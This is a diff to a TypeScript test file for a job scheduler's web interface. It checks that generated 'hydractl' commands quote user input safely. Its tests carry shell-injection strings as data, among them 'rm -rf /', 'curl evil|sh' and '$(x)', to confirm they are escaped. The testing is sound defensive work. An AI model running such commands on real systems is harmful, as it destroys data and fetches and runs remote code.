@@ -3,11 +3,12 @@ import { cookie, problemFrom } from "../api/client";
 import type { Node, Queue, SubCluster } from "../api/types";
 import { nextPath } from "../app/session";
 import { bulkCommand } from "./jobs/BulkActions";
-import { address, command, cursorOf, fromInput, fromSearch, quote, saveCommand, toInput, topic, toQuery } from "./jobs/filters";
+import { address, command, cursorOf, fromInput, fromSearch, saveCommand, toInput, topic, toQuery } from "./jobs/filters";
 import { localInput } from "../format/units";
 import { request, wrong } from "./fleet/duty";
 import { health, leftThere, shares, silentFor, standing } from "./overview/fleet";
 import { fieldPath, localFiles, parse, withUploads } from "./submit/source";
+import { hydractl, quote } from "../format/shell";
 
 describe("refusals", () => {
   it("keep the fields of a problem document", () => {
@@ -31,6 +32,7 @@ describe("job filters", () => {
   it("are safe to paste into a shell", () => {
     expect(command({ name: "it's; rm -rf /" })).toBe(`hydractl jobs --name 'it'\\''s; rm -rf /'`);
     expect(quote("root.prod")).toBe("root.prod");
+    expect(hydractl("queues", "--under", "x;curl evil|sh", 3, false, undefined, "")).toBe("hydractl queues --under 'x;curl evil|sh' 3 ''");
     expect(saveCommand("my view", { state: "FAILED", tag: "$(x)" })).toBe("hydractl views save 'my view' state=FAILED 'tag=$(x)'");
   });
   it("stand in the address with the page", () => {
